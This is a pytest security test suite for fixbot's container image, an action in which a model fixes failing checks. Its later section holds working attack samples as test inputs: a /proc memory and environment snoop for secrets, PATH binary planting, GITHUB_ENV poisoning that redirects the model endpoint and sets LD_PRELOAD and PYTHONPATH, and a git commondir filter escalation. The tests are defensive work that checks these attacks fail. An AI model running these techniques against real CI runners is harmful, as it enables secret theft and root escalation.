"""End to end inside fixbot's own container image, built here (scripts/build-image.sh) and run
the way GitHub runs a container action (tests/fakes/image.py): root, the workspace at
/github/workspace owned by uid 1001, the runner's folders and variables, the fake GitHub and the
fake model server on 127.0.0.1.

Skipped with the reason when this machine cannot build or run the image (not root, no buildah or
debootstrap); under `CI=true` that is a failure instead: CI runs as root and must run them.
"""

from __future__ import annotations

import os
import re
import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest

from fixbot.github.publish.render import STATUS_MARKER
from fixbot.process import installation
from tests.fakes.action_env import REPOSITORY, TOKEN, ActionSandbox
from tests.fakes.github_server import FakeGitHub
from tests.fakes.image import (
    RUNNER_UID,
    BuiltImage,
    Container,
    ContainerAction,
    ContainerRun,
    built_image,
    image_unavailable,
    require,
)
from tests.fakes.model_server import FakeModelServer, tool_call
from tests.fakes.paths import ROOT
from tests.fakes.preload import preload_library
from tests.fakes.repo import git

pytestmark = pytest.mark.slow
UNAVAILABLE = image_unavailable()
IN_CI = os.environ.get("CI", "").lower() == "true"  # read before conftest.py removes it
MODEL_KEY = "sk-image-test-0123456789abcdefghij"


@pytest.fixture(scope="session")
def image() -> BuiltImage:
    """The built image; skipped (failed under CI=true) when it cannot be built here."""
    require(UNAVAILABLE, IN_CI)
    return built_image()


@pytest.fixture
def container(image: BuiltImage, tmp_path: Path) -> Container:
    return Container(image, tmp_path / "container")


@pytest.fixture
def sandbox(tmp_path: Path, github_server: FakeGitHub) -> ActionSandbox:
    (tmp_path / "box").mkdir()
    return ActionSandbox(tmp_path / "box", github_server)


@pytest.fixture
def action(sandbox: ActionSandbox, container: Container) -> ContainerAction:
    return ContainerAction(sandbox, container)


# -- the image's contents, read from inside it ---------------------------------------------------

# Run as root in the image: who owns every folder on root's PATH, and may uid 1001 write it.
PATH_AUDIT = r"""
import json, os, shutil, stat, subprocess, sys
found = {}
for folder in os.environ["PATH"].split(":"):
    if os.path.isdir(folder):
        info = os.stat(folder)
        found[folder] = [info.st_uid, stat.S_IMODE(info.st_mode)]
writable = subprocess.run(
    ["setpriv", "--reuid=1001", "--regid=1001", "--clear-groups", "sh", "-c",
     'for d in "$@"; do [ -w "$d" ] && echo "$d"; done; true', "sh", *found],
    capture_output=True, text=True, check=True).stdout.split()
tools = {name: shutil.which(name) for name in ("git", "python3", "python", "fixbot", "uv", "tini")}
print(json.dumps({"folders": found, "writable_by_1001": writable, "tools": tools}))
"""


def test_the_image_has_fixbot_uv_git_and_the_unprivileged_user(container: Container) -> None:
    out = container.shell(
        "getent passwd fixbot; id -u; fixbot --version; uv --version; git --version; "
        "readlink -f /proc/1/exe; command -v ruff || echo no-ruff",
        user=None,
    ).splitlines()
    version = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))["project"]["version"]
    uv_pin = re.search(r"ARG UV_VERSION=(\S+)", (ROOT / "Dockerfile").read_text("utf-8"))
    assert uv_pin is not None
    user = out[0].split(":")
    assert user[0] == "fixbot" and user[2:4] == ["1001", "1001"] and user[5] == "/home/fixbot"
    assert out[1] == "0"  # GitHub runs container actions as root
    assert out[2].endswith(version) and out[3].startswith(f"uv {uv_pin[1]}")
    assert out[4].startswith("git version ")
    assert out[6] == "no-ruff"  # nothing of the project: setup-command installs it
    # The project's environment is the runner's user's; fixbot is not in it.
    venv = container.shell("stat -c '%u %a' /opt/venv/bin; test ! -e /opt/venv/bin/fixbot")
    assert venv.split()[0] == str(RUNNER_UID)
    assert container.shell("id -u") == f"{RUNNER_UID}\n"  # the helper's own user switch works
    # The machine's CA bundle and pip configuration were mounted into the build, never copied:
    # buildah leaves its empty mount points, nothing else.
    leftovers = "cat /etc/pip.conf /etc/fixbot-build/ca.crt 2>/dev/null | wc -c"
    assert container.shell(leftovers, user=None).strip() == "0"


# Run as root in the image: what scripts/image_trim.py left out must not be missed by a run.
TRIMMED = r"""
import glob, importlib, json, os, pkgutil, shutil, sys
import fixbot, github, gql, gql.transport.requests
# the observers (pytest's plugin and its parts, unittest's and its startup) and the line
# tracer run in the project's Python, never in fixbot's
from fixbot.observe.channel import PARTS, UNITTEST_PARTS
copied = {"fixbot.observe.pytest_plugin", "fixbot.agent.linetrace"}
copied |= {"fixbot.observe.unittest_observer", "fixbot.observe.startup"}  # unittest's
copied |= {"fixbot.observe." + part.stem for part in UNITTEST_PARTS}
copied |= {"fixbot.observe." + part.stem for part in PARTS}
for info in pkgutil.walk_packages(fixbot.__path__, "fixbot."):
    if not info.name.endswith("__main__") and info.name not in copied:
        importlib.import_module(info.name)
no_bytecode = sorted(
    name for name, module in list(sys.modules.items())
    if str(getattr(module, "__file__", "")).endswith(".py")
    and getattr(module.__spec__, "origin", None) != "frozen"
    and not os.path.exists(getattr(module, "__cached__", "") or "")
)
modules = len(sys.modules)
import litellm  # imported when a run first calls the model
from litellm.rust_bridge import native_bridge_available
import boto3  # imported by litellm when a Bedrock or SageMaker model is called
services = ("sts", "sso", "sso-oidc", "bedrock-runtime", "sagemaker-runtime")
clients = [
    boto3.client(s, region_name="us-east-1").meta.service_model.endpoint_prefix for s in services
]
print(json.dumps({
    "no_bytecode": no_bytecode, "modules": modules, "rust": native_bridge_available(),
    "clients": clients, "strip": shutil.which("strip"),
    "apt_cache": glob.glob("/var/cache/apt/*.bin") + glob.glob("/var/cache/apt/archives/*.deb"),
}))
"""


def test_what_the_image_leaves_out_is_not_what_a_run_uses(container: Container) -> None:
    """docs/image.md, "Size and cold start": every module each run imports (fixbot's, PyGithub,
    gql, the standard library's they use) comes from bytecode compiled in the build, litellm runs
    without its Rust extension, boto3 still builds the clients a Bedrock or SageMaker model
    needs, and neither binutils nor apt's caches are left."""
    import json

    done = container.run(["/usr/local/bin/python", "-c", TRIMMED])
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout)
    assert found["modules"] > 1000  # fixbot, PyGithub and gql really were imported
    assert found["no_bytecode"] == [], found["no_bytecode"]
    assert found["rust"] is False
    assert found["clients"] == ["sts", "portal.sso", "oidc", "bedrock-runtime", "runtime.sagemaker"]
    assert found["strip"] is None and found["apt_cache"] == []


def test_every_folder_on_roots_path_is_roots_alone(container: Container) -> None:
    """Root's PATH in the image holds no folder the commands can write: the project's virtual
    environment (`/opt/venv/bin`, the runner's user's) is first on the commands' PATH only
    (`fixbot.process.launcher.commands_environment`)."""
    audit = path_audit(container)
    folders = audit["folders"]
    assert isinstance(folders, dict)
    assert list(folders) == container.image.env["PATH"].split(":")  # every one exists
    assert "/opt/venv/bin" not in folders
    for folder, (uid, mode) in folders.items():
        assert uid == 0 and not mode & 0o022, (folder, uid, oct(mode))


def test_the_entrypoint_is_tini_then_fixbot_action(image: BuiltImage) -> None:
    python = "/usr/local/bin/python"
    assert image.entrypoint == installation.entry_argv() and image.entrypoint[-5] == python

    def interpreter(path: str) -> bool:  # an ELF program interpreter: dynamically linked
        return b"/lib64/ld-linux" in (image.rootfs / path).read_bytes()[:4096]

    assert interpreter("usr/bin/git")  # the test tells the two kinds apart
    assert not interpreter("usr/bin/tini-static") and not interpreter("bin/busybox")
    assert "FIXBOT_RUNTIME" not in image.env  # where it runs is the image's root-owned file


def path_audit(container: Container) -> dict[str, object]:
    import json

    done = container.run(["/usr/local/bin/python", "-c", PATH_AUDIT])
    assert done.returncode == 0, done.stderr
    result: dict[str, object] = json.loads(done.stdout)
    return result


def test_no_folder_on_roots_path_is_writable_by_the_runners_user(container: Container) -> None:
    audit = path_audit(container)
    assert audit["writable_by_1001"] == []
    tools = audit["tools"]
    assert isinstance(tools, dict)
    for name in ("git", "python3", "fixbot", "tini"):
        assert str(tools[name]).startswith(("/usr/bin/", "/usr/local/bin/")), tools


def test_the_path_audit_sees_a_folder_the_runners_user_may_write(container: Container) -> None:
    # The audit's control: a folder on PATH that uid 1001 owns is reported.
    container.shell("mkdir -p /home/fixbot/bin", user=RUNNER_UID)
    done = container.run(
        ["/usr/local/bin/python", "-c", PATH_AUDIT],
        env={**container.image.env, "PATH": "/home/fixbot/bin:/usr/bin:/bin"},
    )
    assert '"writable_by_1001": ["/home/fixbot/bin"]' in done.stdout, done.stdout + done.stderr


# -- a pull request, fixed inside the image ------------------------------------------------------

# A tool of the project's, installed by the set-up with pip from the repository (no network):
# an in-tree PEP 517 backend builds its wheel, with a console script `lint-app`.
BACKEND = """\
import base64, hashlib, pathlib, zipfile
NAME, VERSION = "lintapp", "1.0"
def _digest(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    info = f"{NAME}-{VERSION}.dist-info"
    files = {"lintapp.py": pathlib.Path("lintapp.py").read_bytes()}
    meta = f"Metadata-Version: 2.1\\nName: {NAME}\\nVersion: {VERSION}\\n"
    files[f"{info}/METADATA"] = meta.encode()
    files[f"{info}/WHEEL"] = b"Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
    files[f"{info}/entry_points.txt"] = b"[console_scripts]\\nlint-app = lintapp:main\\n"
    record = "".join(f"{k},{_digest(v)},{len(v)}\\n" for k, v in files.items())
    files[f"{info}/RECORD"] = (record + f"{info}/RECORD,,\\n").encode()
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(pathlib.Path(wheel_directory) / name, "w") as whl:
        for path, data in files.items():
            whl.writestr(path, data)
    return name
"""
LINTAPP = """\
import os, sys
def main():
    with open("/tmp/lint-app.uid", "a") as seen:
        seen.write(f"{os.getuid()}\\n")
    for number, line in enumerate(open("app.py"), 1):
        if line.startswith("import os"):
            print(f"app.py:{number}: unused import os")
            sys.exit(1)
    print("app.py: clean")
"""
TOOL = {
    "tools/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
    'backend-path = ["."]\n',
    "tools/backend.py": BACKEND,
    "tools/lintapp.py": LINTAPP,
}
SETUP = "pip install --quiet --no-index --no-build-isolation ./tools"
BROKEN = {"app.py": "import os\nprint('hi')\n"}


def model_fix(model_server: FakeModelServer) -> None:
    """The model removes app.py's unused import, then finds nothing to review."""
    model_server.enqueue(
        tool_call("replace_in_file", path="app.py", old="import os\n", new=""),
        tool_call("finish", summary="remove the unused import"),
        tool_call("submit_review", findings=[]),
    )


def model_inputs(model_server: FakeModelServer, check: str, setup: str = SETUP) -> dict[str, str]:
    return {
        "check-command": check,
        "setup-command": setup,
        "model": "openai/fake",
        "api-base": model_server.url,
        "fix-commands": "",
    }


STEP_ENV = {"OPENAI_API_KEY": MODEL_KEY, "FIXBOT_EDIT_PROTOCOL": "tools"}


def pull_request(
    action: ContainerAction, files: dict[str, str], inputs: dict[str, str]
) -> tuple[ContainerRun, str]:
    """Commit `files` (and the tool) on `changes`, run the action on its pull request."""
    box = action.sandbox
    box.commit("main", {"app.py": "print('hi')\n", **TOOL}, "initial")
    sha = box.commit("changes", files, "break it")
    ws = box.workspace("changes", merge_into="main")
    event = box.pull_request_event("changes", sha)
    return action.run("pull_request", event, ws, inputs, STEP_ENV), sha


def test_a_pull_request_is_fixed_and_pushed_with_the_tools_the_setup_installed(
    action: ContainerAction,
    container: Container,
    model_server: FakeModelServer,
    github_server: FakeGitHub,
) -> None:
    model_fix(model_server)
    run, sha = pull_request(action, BROKEN, model_inputs(model_server, "lint-app"))

    assert run.code == 0, run.stdout + run.stderr
    assert run.outputs["outcome"] == "fixed", run.outputs
    box = action.sandbox
    pushed = box.origin_sha("changes")
    assert pushed == run.outputs["commit-sha"] and git(box.origin, "rev-parse", f"{pushed}^") == sha
    assert git(box.origin, "show", f"{pushed}:app.py") == "print('hi')"
    assert "fixbot fixed the check" in run.summary
    comments = github_server.repo(REPOSITORY).comments
    assert len(comments) == 1 and comments[0]["body"].startswith(STATUS_MARKER)
    # The check ran twice (red, then green), as the runner's user, never as root.
    assert container.path("/tmp/lint-app.uid").read_text().split() == [str(RUNNER_UID)] * 2
    assert TOKEN not in run.stdout.replace(f"::add-mask::{TOKEN}", "") + run.stderr


def test_the_workspace_is_the_runners_user_again_after_a_push(
    action: ContainerAction, container: Container, model_server: FakeModelServer
) -> None:
    model_fix(model_server)
    run, _ = pull_request(action, BROKEN, model_inputs(model_server, "lint-app"))
    assert run.outputs.get("outcome") == "fixed", run.stdout + run.stderr
    ws = next(p for p, inside in container.mounts.items() if inside == "/github/workspace")
    root_owned = [p for p in [ws, *ws.rglob("*")] if p.lstat().st_uid != RUNNER_UID]
    assert root_owned == [], root_owned


def test_a_failing_setup_calls_no_model_pushes_nothing_and_says_why(
    action: ContainerAction, model_server: FakeModelServer, github_server: FakeGitHub
) -> None:
    setup = "pip install --quiet --no-index nothere==9.9"
    run, sha = pull_request(action, BROKEN, model_inputs(model_server, "lint-app", setup))

    assert run.code == 2, run.stdout + run.stderr
    assert run.outputs["outcome"] == "error"
    assert run.outputs["reason"].startswith(f"setup failed: `{setup}` exited with code 1")
    assert "No matching distribution found for nothere==9.9" in run.summary
    assert model_server.bodies() == []
    assert action.sandbox.origin_sha("changes") == sha
    assert github_server.repo(REPOSITORY).pulls == []


# -- attacks from the project's check ------------------------------------------------------------

# Reads every process's environment, command line and readable memory but its own, looking for
# the secrets (given in halves, so no command line holds one); its control is a child whose
# environment holds a marker, which it must find.
SNOOP = r"""
import os, subprocess, sys
halves = open(sys.argv[1]).read().split()
secrets = {"secret": [halves[0] + halves[1], halves[2] + halves[3]]}
secrets["marker"] = ["snoop-marker-" + "4242"]
child = subprocess.Popen(["sleep", "30"], env={"MARK": secrets["marker"][0]})
found, denied = set(), 0
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    for part in ("environ", "cmdline", "mem"):
        try:
            if part == "mem":
                maps = open(f"/proc/{pid}/maps").read().splitlines()
                mem, data = open(f"/proc/{pid}/mem", "rb"), ""
                for line in maps:
                    span, perms = line.split()[:2]
                    start, end = (int(x, 16) for x in span.split("-"))
                    if perms.startswith("r") and end - start < 64 << 20:
                        try:
                            mem.seek(start)
                            data += mem.read(end - start).decode("latin-1")
                        except (OSError, ValueError, OverflowError):
                            pass
            else:
                data = open(f"/proc/{pid}/{part}", "rb").read().decode("latin-1")
        except OSError:
            denied += 1
            continue
        found |= {f"{kind} {part}" for kind, values in secrets.items() for v in values if v in data}
child.kill()
print(f"denied={denied}")
print("\n".join(sorted(found)))
"""


def test_no_secret_is_readable_from_the_check(
    action: ContainerAction, container: Container, model_server: FakeModelServer
) -> None:
    # The snoop gets the secrets in halves from a file: the check command is shown in the status
    # comment, and the leak scan refuses a text that holds a third of a secret.
    halves = f"{TOKEN[:12]} {TOKEN[12:]} {MODEL_KEY[:12]} {MODEL_KEY[12:]}\n"
    files = {"snoop.py": SNOOP, "app.py": "print('hi')\n", "halves.txt": halves}
    check = "python snoop.py halves.txt > /tmp/snoop.txt"
    run, _ = pull_request(action, files, {**model_inputs(model_server, check), "setup-command": ""})

    assert run.code == 0 and run.outputs["outcome"] == "passed", run.stdout + run.stderr
    seen = container.path("/tmp/snoop.txt").read_text().splitlines()
    assert {"marker environ", "marker mem"} <= set(seen[1:]), seen  # it can read its own kind
    assert not [line for line in seen if line.startswith("secret")], seen


PLANT = r"""#!/bin/sh
echo "$(id -u) $0" >> /tmp/planted.log
exec /usr/bin/{name} "$@"
"""
# The check: plant `git` and `python3` in the folders on PATH it can write, use the planted git
# once itself (the control), then lint.
PLANTING_CHECK = (
    'for d in $(echo "$PATH" | tr : " "); do if [ -w "$d" ]; then '
    'printf \'%s\' "$PLANT_GIT" > "$d/git" && chmod +x "$d/git"; '
    'rm -f "$d/python3"; printf \'%s\' "$PLANT_PY" > "$d/python3" && chmod +x "$d/python3"; '
    "fi; done; git --version > /dev/null; lint-app"
)


def test_a_git_or_python3_planted_on_path_never_runs_as_root(
    action: ContainerAction, container: Container, model_server: FakeModelServer
) -> None:
    model_fix(model_server)
    env = {
        **STEP_ENV,
        "PLANT_GIT": PLANT.replace("{name}", "git"),
        "PLANT_PY": PLANT.replace("{name}", "python3"),
    }
    box = action.sandbox
    box.commit("main", {"app.py": "print('hi')\n", **TOOL}, "initial")
    sha = box.commit("changes", BROKEN, "break it")
    ws = box.workspace("changes", merge_into="main")
    inputs = model_inputs(model_server, PLANTING_CHECK)
    run = action.run("pull_request", box.pull_request_event("changes", sha), ws, inputs, env)

    assert run.outputs.get("outcome") == "fixed", run.stdout + run.stderr
    ran = container.path("/tmp/planted.log").read_text().splitlines()
    assert any(line.startswith(f"{RUNNER_UID} ") for line in ran)  # the plant works
    assert not [line for line in ran if line.startswith("0 ")], ran


# A process that leaves its group and keeps changing its PID, appending a heartbeat; the second
# check run looks whether the heartbeat still grows.
HOPPER = r"""
import os, sys, time
if os.path.exists("/tmp/hopper.log"):
    before = os.path.getsize("/tmp/hopper.log")
    time.sleep(1.0)
    alive = os.path.getsize("/tmp/hopper.log") > before
    open("/tmp/hopper-seen", "a").write("alive\n" if alive else "dead\n")
else:
    if os.fork() == 0:
        os.setsid()
        for fd in (0, 1, 2):
            os.close(fd)
        while True:
            if os.fork():
                os._exit(0)
            with open("/tmp/hopper.log", "a") as log:
                log.write(f"{os.getpid()}\n")
            time.sleep(0.001)
    time.sleep(0.3)
os.execvp("lint-app", ["lint-app"])
"""


def test_a_pid_hopping_process_does_not_survive_the_check(
    action: ContainerAction, container: Container, model_server: FakeModelServer
) -> None:
    model_fix(model_server)
    files = {**BROKEN, "hop.py": HOPPER}
    run, _ = pull_request(action, files, model_inputs(model_server, "python hop.py"))

    assert run.outputs.get("outcome") == "fixed", run.stdout + run.stderr
    assert len(container.path("/tmp/hopper.log").read_text().split()) > 3  # it did hop
    assert container.path("/tmp/hopper-seen").read_text().split() == ["dead"]


# The check writes variables for the job's later steps.
POISON = (
    "for f in /github/file_commands/set_env_*; do printf '%s\\n' FIXBOT_API_BASE=$EVIL "
    "OPENAI_API_BASE=$EVIL OPENAI_BASE_URL=$EVIL FIXBOT_RUN_AS=self FIXBOT_MODEL=openai/evil "
    '>> "$f"; done; lint-app'
)


@pytest.fixture
def evil_model() -> Iterator[FakeModelServer]:
    with FakeModelServer() as server:
        yield server


def poisoned_second_step(
    action: ContainerAction, model_server: FakeModelServer, evil: FakeModelServer
) -> ContainerRun:
    """A check that writes `POISON` to `GITHUB_ENV`; then the job's next fixbot step, with the
    variables the runner applies from that file, on the pull request's next push."""
    model_fix(model_server)
    box = action.sandbox
    box.commit("main", {"app.py": "print('hi')\n", **TOOL}, "initial")
    sha = box.commit("changes", BROKEN, "break it")
    ws = box.workspace("changes", merge_into="main")
    inputs = model_inputs(model_server, POISON)
    env = {**STEP_ENV, "EVIL": evil.url}
    first = action.run("pull_request", box.pull_request_event("changes", sha), ws, inputs, env)
    assert first.outputs.get("outcome") == "fixed", first.stdout + first.stderr
    assert "FIXBOT_RUN_AS=self" in first.env_file  # the check could write the file

    written = dict(line.split("=", 1) for line in first.env_file.splitlines() if "=" in line)
    model_fix(model_server)
    sha2 = box.commit("changes", {"lib.py": "print('x')\n", **BROKEN}, "again")
    ws2 = box.workspace("changes", merge_into="main")
    event = box.pull_request_event("changes", sha2)
    inputs = model_inputs(model_server, "lint-app")
    second = action.run("pull_request", event, ws2, inputs, {**env, **written})
    assert second.outputs.get("outcome") == "fixed", second.stdout + second.stderr
    return second


def test_github_env_written_by_the_check_does_not_move_the_model(
    action: ContainerAction, model_server: FakeModelServer, evil_model: FakeModelServer
) -> None:
    poisoned_second_step(action, model_server, evil_model)
    assert evil_model.bodies() == []
    assert len(model_server.bodies()) == 6  # edit, finish and review, twice


def test_github_env_written_by_the_check_does_not_change_who_runs_the_commands(
    action: ContainerAction,
    container: Container,
    model_server: FakeModelServer,
    evil_model: FakeModelServer,
) -> None:
    poisoned_second_step(action, model_server, evil_model)
    uids = container.path("/tmp/lint-app.uid").read_text().split()
    assert set(uids) == {str(RUNNER_UID)}, uids  # the runner's user, not run-as: self (root)


# The first fixbot step's check leaves code for the job's next fixbot step (root) to run: a
# user-site `.pth` under HOME (`/github/home`, the commands' to write), a `sitecustomize.py` on
# a `PYTHONPATH`, `PYTHONSTARTUP`, and `FIXBOT_RUNTIME=runner` in GITHUB_ENV (`PYTHONINSPECT` would
# break the project's own Pythons; the host test covers it).
LEAVE_CODE = r"""
site=/github/home/.local/lib/python3.11/site-packages
mkdir -p "$site" /github/home/evil
code='import os; open("/tmp/pwned", "a").write("%s %d\n" % (__name__, os.getuid()))'
printf '%s\n' "$code" > "$site/evil.pth"
printf '%s\n' "$code" > /github/home/evil/sitecustomize.py
printf '%s\n' "$code" > /github/home/evil/startup.py
for f in /github/file_commands/set_env_*; do
  printf '%s\n' FIXBOT_RUNTIME=runner PYTHONPATH=/github/home/evil \
    PYTHONSTARTUP=/github/home/evil/startup.py LD_PRELOAD=/github/home/evil/evil.so \
    LD_LIBRARY_PATH=/github/home/evil >> "$f"
done
"""


def second_step_after_leave_code(
    action: ContainerAction, model_server: FakeModelServer
) -> ContainerRun:
    """Step one: its check runs `LEAVE_CODE`; step two: the same job's next fixbot step, with
    the same HOME and the variables the runner applies from GITHUB_ENV."""
    model_fix(model_server)
    box = action.sandbox
    box.commit("main", {"app.py": "print('hi')\n", "leave.sh": LEAVE_CODE, **TOOL}, "initial")
    sha = box.commit("changes", BROKEN, "break it")
    ws = box.workspace("changes", merge_into="main")
    inputs = model_inputs(model_server, "sh leave.sh && lint-app")
    event = box.pull_request_event("changes", sha)
    first = action.run("pull_request", event, ws, inputs, STEP_ENV)
    assert first.outputs.get("outcome") == "fixed", first.stdout + first.stderr
    assert "FIXBOT_RUNTIME=runner" in first.env_file  # the check could write the file
    written = dict(line.split("=", 1) for line in first.env_file.splitlines() if "=" in line)
    # the library the check left beside them (any bytes it wrote: built here, it has no compiler)
    home = box.root / f"runner{action.steps}" / "home"
    library = preload_library(home / "evil" / "build", "/tmp/pwned")
    os.replace(library, home / "evil" / "evil.so")
    os.lchown(home / "evil" / "evil.so", RUNNER_UID, RUNNER_UID)
    model_fix(model_server)
    sha2 = box.commit("changes", {"lib.py": "print('x')\n", **BROKEN}, "again")
    ws2 = box.workspace("changes", merge_into="main")
    event = box.pull_request_event("changes", sha2)
    inputs = model_inputs(model_server, "lint-app")
    second = action.run("pull_request", event, ws2, inputs, {**STEP_ENV, **written}, same_home=True)
    assert second.outputs.get("outcome") == "fixed", second.stdout + second.stderr
    return second


def test_code_the_first_step_left_never_runs_as_root_in_the_second(
    action: ContainerAction, container: Container, model_server: FakeModelServer
) -> None:
    """fixbot starts in isolated mode (`python -I`): no user site, no `PYTHON*` variable; and
    from a statically linked tini and shell that remove the loader's variables first: an
    `LD_PRELOAD` library from GITHUB_ENV never loads. The commands' own Python may run what
    they left (it is theirs); root's never does."""
    second_step_after_leave_code(action, model_server)
    pwned = container.path("/tmp/pwned")
    lines = pwned.read_text().splitlines() if pwned.exists() else []
    assert [line for line in lines if line.endswith(" 0")] == [], lines


def test_a_runner_runtime_variable_does_not_make_root_run_the_commands(
    action: ContainerAction, container: Container, model_server: FakeModelServer
) -> None:
    """Where fixbot runs is the image's root-owned file: `FIXBOT_RUNTIME=runner` in GITHUB_ENV
    used to make the next step run the project's commands as root."""
    second_step_after_leave_code(action, model_server)
    uids = container.path("/tmp/lint-app.uid").read_text().split()
    assert set(uids) == {str(RUNNER_UID)}, uids


# The check of a pull request that also commits `.fixbot/ownership.json` (a "record of a killed
# run" naming `.git` with mode 0777): it points the workspace's `.git/commondir` at a repository
# whose config defines a clean and a smudge filter, defines them in `.git/config` too, and the
# pull request's `.gitattributes` selects them. Any git of root's in the workspace runs them.
COMMONDIR_ATTACK = r"""
evil=/tmp/evil-common
if [ ! -d "$evil" ]; then
  git init -q --bare "$evil"
  filter='sh -c "id -u >> /tmp/filter.log; cat"'
  printf '[filter "evil"]\n\tclean = %s\n\tsmudge = %s\n' "$filter" "$filter" >> "$evil/config"
  printf '[filter "evil"]\n\tclean = %s\n\tsmudge = %s\n' "$filter" "$filter" >> .git/config
  printf '%s\n' "$evil" > .git/commondir
fi
exec lint-app
"""


def test_a_committed_state_record_and_a_planted_commondir_never_reach_roots_git(
    action: ContainerAction, container: Container, model_server: FakeModelServer
) -> None:
    """The critical attack on the image: root applied `.fixbot/ownership.json` from the pull
    request, then its git followed the `commondir` the check planted to a filter, which read the
    token and the key as root. fixbot's state and git are its own (its clone in its private
    folder): the record is data, no filter runs, and the fix is pushed."""
    model_fix(model_server)
    files = {
        **BROKEN,
        ".fixbot/ownership.json": '[[".git", 0, 0, 511]]\n',
        ".gitattributes": "* filter=evil\n",
        "attack.sh": COMMONDIR_ATTACK,
    }
    run, sha = pull_request(action, files, model_inputs(model_server, "sh attack.sh"))

    assert run.outputs.get("outcome") == "fixed", run.stdout + run.stderr
    box = action.sandbox
    pushed = box.origin_sha("changes")
    assert pushed == run.outputs["commit-sha"] and git(box.origin, "rev-parse", f"{pushed}^") == sha
    log = container.path("/tmp/filter.log")
    assert not log.exists(), log.read_text()  # no git of anyone's ran the filters
    ws = next(p for p, inside in container.mounts.items() if inside == "/github/workspace")
    assert (ws / ".git").lstat().st_mode & 0o777 != 0o777  # the record was never applied
    assert (ws / ".git" / "commondir").exists()  # the attack was planted
